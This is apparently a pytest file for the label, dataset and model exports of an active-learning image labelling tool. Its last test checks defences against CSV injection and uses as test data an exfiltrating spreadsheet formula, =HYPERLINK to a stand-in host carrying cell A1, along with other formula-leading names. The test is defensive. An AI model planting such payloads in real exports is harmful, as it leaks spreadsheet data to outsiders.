"""Tests for exports: labels CSV/JSON, ImageFolder tree (copy and hard link), trained student.

Uses the fake teacher (and, if selection is missing, the fake selection) from
tests/test_project.py; training is real (a few steps of small_cnn on CPU).
"""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import numpy as np
import pytest

from activekd_core.export import ExportError, safe_folder_name
from activekd_core.project import Project, ProjectError
from test_project import make_images, new_project, siblings  # noqa: F401 (siblings: autouse fixture)


@pytest.fixture
def labeled(tmp_path: Path) -> tuple[Project, dict[str, str]]:
    root = tmp_path / "images"
    truth = make_images(root, per_class=4)
    p = new_project(tmp_path, root)
    ids = sorted(truth)
    for i in ids[:6]:
        p.label(i, truth[i], annotator="ann")
    p.label(ids[0], "blue", annotator="bob")  # overwritten: last write wins
    p.skip(ids[6])
    p.unsure(ids[7])
    return p, truth


def test_labels_csv(labeled, tmp_path: Path) -> None:
    p, truth = labeled
    rep = p.export_labels("csv")
    assert rep.dest == tmp_path / "proj" / "exports" / "labels.csv" and rep.count == 6
    with open(rep.dest, newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0])[:6] == ["id", "path", "label", "annotator", "time", "round"]
    by_id = {r["id"]: r for r in rows}
    ids = sorted(truth)
    assert by_id[ids[0]]["label"] == "blue" and by_id[ids[0]]["annotator"] == "bob"
    assert all(by_id[i]["label"] == truth[i] for i in ids[1:6])
    assert by_id[ids[1]]["path"] == str(p.image_root / ids[1]) and Path(by_id[ids[1]]["path"]).is_file()
    assert by_id[ids[1]]["round"] == "0" and by_id[ids[1]]["state"] == "label"
    full = p.export_labels("csv", tmp_path / "all.csv", include_states=("label", "skip", "unsure"))
    assert full.count == 8
    with pytest.raises(ProjectError, match="unknown label export format"):
        p.export_labels("xml")


def test_labels_json_matches_store(labeled, tmp_path: Path) -> None:
    p, _ = labeled
    rep = p.export_labels("json", tmp_path / "out" / "labels.json")
    data = json.loads(rep.dest.read_text())
    assert data["classes"] == ["red", "green", "blue"]
    assert {r["id"]: r["label"] for r in data["labels"]} == p.store.current_labels()
    assert all(isinstance(r["round"], int) and r["time"] for r in data["labels"])
    assert not list((tmp_path / "out").glob("*.tmp"))  # atomic: no temp left behind


@pytest.mark.parametrize("mode", ["copy", "hardlink"])
def test_imagefolder(labeled, tmp_path: Path, mode: str) -> None:
    p, truth = labeled
    dest = tmp_path / f"tree_{mode}"
    rep = p.export_imagefolder(dest, mode=mode)
    assert rep.count == 6 and rep.skipped == []
    files = sorted(f.relative_to(dest).as_posix() for f in dest.rglob("*") if f.is_file())
    expected = sorted(f"{lab}/{i.replace('/', '__')}" for i, lab in p.store.current_labels().items())
    assert files == expected
    assert sorted(d.name for d in dest.iterdir()) == ["blue", "green", "red"]
    some_id, some_label = next(iter(p.store.current_labels().items()))
    out = dest / some_label / some_id.replace("/", "__")
    src = p.image_root / some_id
    assert out.read_bytes() == src.read_bytes()
    assert (os.stat(out).st_ino == os.stat(src).st_ino) == (mode == "hardlink")
    with pytest.raises(ExportError, match="must be new or empty"):
        p.export_imagefolder(dest)
    with pytest.raises(ExportError, match="unknown ImageFolder mode"):
        p.export_imagefolder(tmp_path / "x", mode="symlink")


def test_imagefolder_excludes_audit(labeled, tmp_path: Path) -> None:
    p, truth = labeled
    audit = p.create_audit_set(3, seed=0)
    for i in audit:
        p.label(i, truth[i])
    with_audit = p.export_imagefolder(tmp_path / "a").count
    without = p.export_imagefolder(tmp_path / "b", include_audit=False).count
    assert with_audit - without == 3


def test_safe_folder_name() -> None:
    assert safe_folder_name("a/b\\c:d") == "a_b_c_d"
    assert safe_folder_name("..") == "_"
    assert safe_folder_name("défaut local") == "défaut local"


def test_student_export_torchscript(labeled, tmp_path: Path) -> None:
    import torch

    from activekd_core.pixel_cache import decode_pool
    from activekd_core.student import load_student
    from activekd_core.training import predict_student

    p, _ = labeled
    with pytest.raises(ProjectError, match="no trained student yet"):
        p.export_student()
    rec = p.retrain()
    rep = p.export_student()
    names = sorted(f.name for f in rep.files)
    assert "student.safetensors" in names and "student_torchscript.pt" in names and "model.json" in names
    info = json.loads((rep.dest / "model.json").read_text())
    assert info["classes"] == ["red", "green", "blue"] and info["input"]["shape"][1:] == [16, 16, 3]
    pixels = np.ascontiguousarray(decode_pool(p.pool(), 16))
    scripted = torch.jit.load(str(rep.dest / "student_torchscript.pt"))
    with torch.no_grad():
        ts_probs = scripted(torch.from_numpy(pixels)).numpy()
    model, _ = load_student(rep.dest / "student.safetensors")
    ref, _ = predict_student(model, pixels)
    assert ts_probs.shape == (len(p.pool()), 3)
    np.testing.assert_allclose(ts_probs, ref, atol=1e-5)
    np.testing.assert_allclose(ref, p.student_outputs(rec.id)[0], atol=1e-5)


def test_labels_csv_never_writes_a_live_formula(tmp_path: Path) -> None:
    """CSV injection: names starting with = + - @ tab CR are written as text and import back unchanged."""
    from activekd_core.labels_import import labels_from_csv

    root = tmp_path / "images"
    make_images(root, per_class=1, bad=False)
    (root / "red" / "0.png").rename(root / "red" / "@cmd.png")
    Image_id = "-2+3.png"
    (root / "green" / "0.png").rename(root / Image_id)
    p = Project.create(tmp_path / "proj", root, [("=HYPERLINK(\"http://x/?\"&A1,\"go\")", ""), ("+green", ""), ("blue", "")],
                       teacher_spec={"kind": "fake"}, student_arch="small_cnn", batch_size=4, strategy="pcoreset")
    p.label("red/@cmd.png", "=HYPERLINK(\"http://x/?\"&A1,\"go\")", annotator="@evil")
    p.label(Image_id, "+green", annotator="\tx")
    p.label("blue/0.png", "blue", annotator="'quoted")
    rep = p.export_labels("csv")
    with open(rep.dest, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", f"live formula cell {cell!r}"
    by_id = {r["id"]: r for r in csv.DictReader(open(rep.dest, newline="", encoding="utf-8"))}
    assert by_id["'" + Image_id]["label"] == "'+green" and by_id["'" + Image_id]["annotator"] == "'\tx"
    assert by_id["blue/0.png"]["annotator"] == "''quoted"  # the prefix stays reversible
    # The file imports back to exactly the labels it holds.
    imported = labels_from_csv(rep.dest, p.pool(), p.classes)
    assert imported.labels == p.store.current_labels() and not imported.problems
